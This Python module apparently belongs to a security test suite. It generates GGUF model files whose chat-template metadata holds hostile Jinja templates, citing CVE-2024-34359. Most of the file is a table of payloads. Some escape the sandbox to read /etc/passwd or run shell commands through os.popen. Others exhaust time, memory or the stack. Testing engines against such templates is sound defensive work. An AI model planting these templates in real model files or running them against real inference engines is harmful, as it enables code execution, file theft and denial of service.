"""Chat templates that run code, read files, loop without end or fill the memory.

Seen in llama-cpp-python (CVE-2024-34359: a template rendered without a sandbox runs any command)
and in every engine whose template can loop.
"""

from collections.abc import Iterator

import hostile_gguf
from hostile_gguf import STRING, Attack, model

#: A long string, and a name as long as a file allows.
LONG = "{% set a = 'x' * 9999999 %}"
NAME = "a" * 900_000

TEMPLATES = {
    # Ways from a value to the interpreter's own objects.
    "class": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "globals": "{{ raise_exception.__globals__['__builtins__']['open']('/etc/passwd').read() }}",
    "self": "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "cycler": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "format": "{{ '{0.__class__}'.format(messages) }}",
    "attr": "{{ messages | attr('__class__') | attr('__base__') }}",
    "namespace": "{{ namespace.__init__.__globals__ }}",
    "import": "{% import 'os' as os %}{{ os.system('id') }}",
    # Other files.
    "include": "{% include '/etc/passwd' %}",
    "extends": "{% extends '/etc/passwd' %}",
    # Time.
    "loop": "{% for a in range(10**9) %}{% endfor %}",
    "loops": "{% for a in range(9999) %}{% for b in range(9999) %}{% endfor %}{% endfor %}",
    "recursion": "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
    "fork": "{% macro f(n) %}{{ f(n + 1) }}{{ f(n + 1) }}{% endmacro %}{{ f(0) }}",
    "power": "{{ 9 ** 9 ** 9 ** 9 }}",
    "replace": "{% set ns = namespace(x='ab') %}{% for i in range(999) %}"
    "{% set ns.x = ns.x.replace('a', ns.x) %}{% endfor %}{{ ns.x }}",
    # Memory.
    "repeat": "{{ 'x' * 10**11 }}",
    "repeat-list": "{{ [0] * 10**11 }}",
    "double": "{% set ns = namespace(x='x') %}{% for i in range(99) %}"
    "{% set ns.x = ns.x ~ ns.x %}{% endfor %}{{ ns.x }}",
    "double-list": "{% set ns = namespace(x=[1]) %}{% for i in range(99) %}"
    "{% set ns.x = ns.x + ns.x %}{% endfor %}{{ ns.x }}",
    "nest": "{% set ns = namespace(x=[]) %}{% for i in range(99) %}"
    "{% set ns.x = [ns.x, ns.x] %}{% endfor %}{{ ns.x }}",
    "pad": "{{ 'x'.ljust(10**11) }}{{ '%99999999999d' % 1 }}",
    "indent": "{{ messages | tojson(indent=99999999999) }}",
    "center": "{{ 'x' | center(99999999999) }}",
    "output": "{% for a in range(9999) %}{{ 'x' * 99999 }}{% endfor %}",
    # Work inside of one step, or of the engine below: lengths, needles, keys, names.
    "length": LONG + "{% for i in range(99999) %}{{ a | length }}{% endfor %}",
    "prefixes": LONG + "{% set t = (a ~ 1, a ~ 2, a ~ 3) * 9999 %}{% for i in range(99999) %}"
    "{% if (a ~ 4).startswith(t) %}{% endif %}{% endfor %}",
    "needle": LONG + "{% for i in range(99999) %}{% if 'y'.split(sep=a) %}{% endif %}{% endfor %}",
    "literal": LONG + "{% for i in range(99999) %}{% set d = {a: i} %}{% endfor %}",
    "compare": LONG + "{% set d = {a: 1} %}{% set e = {a: 1} %}{% for i in range(99999) %}"
    "{% if d == e %}{% endif %}{% endfor %}",
    "copy": LONG + "{% set d = {a: 1} %}{% for i in range(99999) %}{% set e = d.copy() %}"
    "{% endfor %}",
    "changed": LONG + "{% for i in range(99999) %}{{ loop.changed(a) }}{% endfor %}",
    "changed-tree": "{% set x = [1] %}{% set y = [1] %}"
    + "{% set x = [x, x] %}{% set y = [y, y] %}" * 90
    + "{% for i in [x, y] %}{{ loop.changed(i) }}{% endfor %}",
    "attribute": "{% for i in range(99999) %}{{ messages." + NAME + " }}{% endfor %}",
    "variable": "{% for i in range(99999) %}{{ " + NAME + " }}{% endfor %}",
    "keyword": "{% for i in range(99999) %}{{ dict(" + NAME + "=1) }}{% endfor %}",
    "attribute-set": "{% for i in range(99999) %}{% set n." + NAME + " = 1 %}{% endfor %}",
    "macros": "{% macro a() %}" * 40
    + ("{{ " + "+".join("abcdefgh") + " }}") * 8000
    + "{% endmacro %}" * 40,
    # What holds itself is never freed where objects are counted; it ends here for its number.
    "namespaces": LONG + "{% for i in range(99999) %}{% set n = namespace(a=a ~ i) %}"
    "{% set n.n = n %}{% endfor %}",
    # Stack.
    "parentheses": "{{ " + "(" * 100_000 + "1" + ")" * 100_000 + " }}",
    "brackets": "{{ " + "[" * 100_000 + "]" * 100_000 + " }}",
    "minus": "{{ " + "-" * 100_000 + "1 }}",
    "ifs": "{% if 1 %}" * 100_000 + "{% endif %}" * 100_000,
    "dots": "{{ messages" + ".a" * 100_000 + " }}",
    "unclosed": "{% for m in messages %}",
}


def attacks() -> Iterator[Attack]:
    for name, source in TEMPLATES.items():

        def change(file: hostile_gguf.File, source: str = source) -> None:
            file.metadata["tokenizer.chat_template"] = (STRING, source)

        yield Attack(name, model(change), "chat", "template")


if __name__ == "__main__":
    hostile_gguf.main(attacks)
